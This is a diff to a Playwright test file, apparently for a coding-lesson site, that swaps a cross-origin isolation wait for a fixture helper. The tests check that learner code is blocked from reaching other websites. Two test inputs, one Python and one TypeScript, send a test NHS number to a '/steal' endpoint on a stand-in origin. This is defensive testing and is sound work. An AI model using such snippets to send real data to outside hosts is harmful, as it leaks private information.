@@ -3,7 +3,7 @@ import { createServer, type Server } from 'node:http';
 import { readFileSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
 import type { Locator, Page } from '@playwright/test';
-import { test, expect } from './fixtures';
+import { test, expect, isolate } from './fixtures';
 
 const content = (path: string) => readFileSync(fileURLToPath(new URL(`../../content/${path}`, import.meta.url)), 'utf8');
 const BMI_LESSON = 'python-first-steps/functions-and-return/';
@@ -147,7 +147,7 @@ test.describe('learner code cannot send data to another website', () => {
       test('from Python', async ({ page }) => {
         hits = 0;
         const block = await bmiBlock(page);
-        if (serviceWorkers === 'allow') await page.waitForFunction(() => crossOriginIsolated, undefined, { timeout: 60_000 });
+        if (serviceWorkers === 'allow') await isolate(page);
         await block.locator('textarea').fill(`from pyodide.http import open_url\nprint(open_url("${origin}/steal?nhs=9990000018").read())\n`);
         await block.getByRole('button', { name: 'Run' }).click();
         await expect(block.locator('[data-output]')).toContainText('does not let code connect to other websites', { timeout: 90_000 });
@@ -157,7 +157,7 @@ test.describe('learner code cannot send data to another website', () => {
       test('from TypeScript', async ({ page }) => {
         hits = 0;
         const block = await plainBlock(page, TS_LESSON, 'Exercise Score a temperature for NEWS2, with types');
-        if (serviceWorkers === 'allow') await page.waitForFunction(() => crossOriginIsolated, undefined, { timeout: 60_000 });
+        if (serviceWorkers === 'allow') await isolate(page);
         await block.locator('textarea').fill(
           // Typed as any: the exercise's TypeScript has no DOM types, and a type error would stop the code first.
           `const Request = (globalThis as any).XMLHttpRequest;\nconst request = new Request();\nrequest.open("GET", "${origin}/steal?nhs=9990000018", false);\nrequest.send();\nconsole.log(request.responseText);\nexport {};\n`,
